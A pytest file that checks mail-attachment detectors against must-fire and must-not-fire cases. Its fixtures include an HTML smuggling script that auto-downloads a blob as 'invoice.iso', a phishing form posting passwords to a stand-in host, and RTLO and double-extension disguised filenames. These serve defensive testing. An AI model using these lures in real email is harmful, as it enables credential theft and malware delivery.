"""Attachment detectors, one table each: cases that must and must not fire."""

from __future__ import annotations

from typing import Any

import attachment_cases as cases
import pytest

from floodwall.detect.mail.dangerous_attachment import DangerousAttachmentDetector
from floodwall.detect.mail.double_extension import DoubleExtensionDetector
from floodwall.detect.mail.encrypted_archive import EncryptedArchiveDetector
from floodwall.detect.mail.file_type_mismatch import FileTypeMismatchDetector
from floodwall.detect.mail.html_credential_form import HtmlCredentialFormDetector
from floodwall.detect.mail.html_smuggling import HtmlSmugglingDetector
from floodwall.detect.mail.rtlo_filename import RtloFilenameDetector

att, fired = cases.att, cases.fired

SMUGGLE = (
    b"<html><body><script>var b=atob('" + b"QUFB" * 80 + b"');var blob=new Blob([b]);"
    b"var a=document.createElement('a');a.href=URL.createObjectURL(blob);"
    b"a.download='invoice.iso';a.click();</script></body></html>"
)
LOGIN = (
    b"<html><form action='https://collect.example.net/p.php' method=post>"
    b"<input name=u><input type='password' name=p></form></html>"
)


@pytest.mark.parametrize(
    ("detector", "attachment", "fires"),
    [
        (DoubleExtensionDetector(), att("invoice.pdf.exe", "pe"), True),
        (DoubleExtensionDetector(), att("scan.JPG.js"), True),
        (DoubleExtensionDetector(), att("report.2024.pdf", "pdf"), False),
        (DoubleExtensionDetector(), att("setup.exe", "pe"), False),
        (DoubleExtensionDetector(), att("archive.tar.gz", "gzip"), False),
        (RtloFilenameDetector(), att("invoice\u202efdp.exe", "pe"), True),
        (RtloFilenameDetector(), att("invoice.pdf", "pdf"), False),
        (DangerousAttachmentDetector(), att("run.exe", "pe"), True),
        (DangerousAttachmentDetector(), att("notes.txt", "pe"), True),  # content decides too
        (DangerousAttachmentDetector(), att("shortcut.LNK", "lnk"), True),
        (DangerousAttachmentDetector(), att("disk.iso", "iso"), True),
        (DangerousAttachmentDetector(), att("payload.js", path="a.zip/payload.js", depth=1), True),
        (DangerousAttachmentDetector(), att("report.pdf", "pdf"), False),
        (DangerousAttachmentDetector(), att("photo.jpg", "jpeg"), False),
        (FileTypeMismatchDetector(), att("invoice.pdf", "pe"), True),
        (FileTypeMismatchDetector(), att("photo.jpg", "html"), True),
        (FileTypeMismatchDetector(), att("invoice.pdf", "pdf"), False),
        (FileTypeMismatchDetector(), att("letter.docx", "ooxml"), False),
        (FileTypeMismatchDetector(), att("data.csv", "unknown"), False),
        (EncryptedArchiveDetector(), att("secret.zip", "zip", encrypted=True), True),
        (EncryptedArchiveDetector(), att("secret.zip", "zip", password="infected"), True),
        (EncryptedArchiveDetector(), att("plain.zip", "zip"), False),
        (HtmlSmugglingDetector(), att("invoice.html", "html", SMUGGLE), True),
        (
            HtmlSmugglingDetector(),
            att("invoice.html", "html", b"<html><script>alert(1)</script>"),
            False,
        ),
        (HtmlSmugglingDetector(), att("notes.txt", "text", SMUGGLE), False),
        (HtmlCredentialFormDetector(), att("login.htm", "html", LOGIN), True),
        (
            HtmlCredentialFormDetector(),
            att("login.htm", "html", LOGIN.replace(b"password", b"text")),
            False,
        ),
        (HtmlCredentialFormDetector(), att("login.htm", "html", b"<input type=password>"), False),
    ],
)
def test_detector(detector: Any, attachment: Any, fires: bool) -> None:
    assert fired(detector, attachment) == ([attachment.path] if fires else [])


@pytest.mark.parametrize(
    "detector",
    [DoubleExtensionDetector, RtloFilenameDetector, DangerousAttachmentDetector,
     FileTypeMismatchDetector, EncryptedArchiveDetector, HtmlSmugglingDetector,
     HtmlCredentialFormDetector],
)  # fmt: skip
def test_metadata(detector: Any) -> None:
    assert detector.id.startswith("mail.") and detector.title and detector.attack
    assert (detector.__doc__ or "").strip()
